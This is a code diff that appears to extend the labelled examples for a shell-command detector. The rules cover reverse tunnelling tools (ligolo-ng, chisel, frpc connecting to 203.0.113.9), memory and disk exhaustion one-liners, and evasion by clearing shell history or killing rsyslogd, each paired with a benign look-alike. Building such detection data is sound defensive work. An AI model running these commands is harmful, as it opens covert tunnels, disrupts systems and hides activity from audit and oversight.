@@ -1028,6 +1028,18 @@ _MORE.update({
    ["python3 -m http.server 8000", "python3 -m http.server 8000 --directory ./dist",
     "php -S localhost:8000 -t public/", "cd /tmp && python3 -m http.server"]),
 })
-for _rid, (_pos, _neg) in _MORE.items():
-    _had = EXAMPLES.get(_rid, ([], []))
-    EXAMPLES[_rid] = ([*_had[0], *_pos], [*_had[1], *_neg])
+_VARIANTS: dict[str, tuple[list[Example], list[Example]]] = {
+    "tunnel-tool": (["./ligolo-ng_agent_linux_amd64 -connect 203.0.113.9:11601",
+                     "./chisel_1.9.1_linux_amd64 client 203.0.113.9:8000 R:socks",
+                     "./frpc_linux -c frpc.toml"],
+                    ["./chisel-lint", "frpc-config-gen"]),
+    "resource-disk-fill": (["tail /dev/zero", "python3 -c 'x = \" \" * 10**10'",
+                            "perl -e '$x = \"A\" x (2**34)'"],
+                           ["tail -f /dev/null", "python3 -c 'n = 3 * 10**9'", "echo $((10**9))"]),
+    "evasion-disable-history": (["export HISTIGNORE='*'"], ["export HISTIGNORE='ls:pwd'"]),
+    "evasion-disable-audit": (["kill -9 $(pidof rsyslogd)"], ["kill -9 $(pidof myapp)"]),
+}
+for _extra in (_MORE, _VARIANTS):
+    for _rid, (_pos, _neg) in _extra.items():
+        _had = EXAMPLES.get(_rid, ([], []))
+        EXAMPLES[_rid] = ([*_had[0], *_pos], [*_had[1], *_neg])
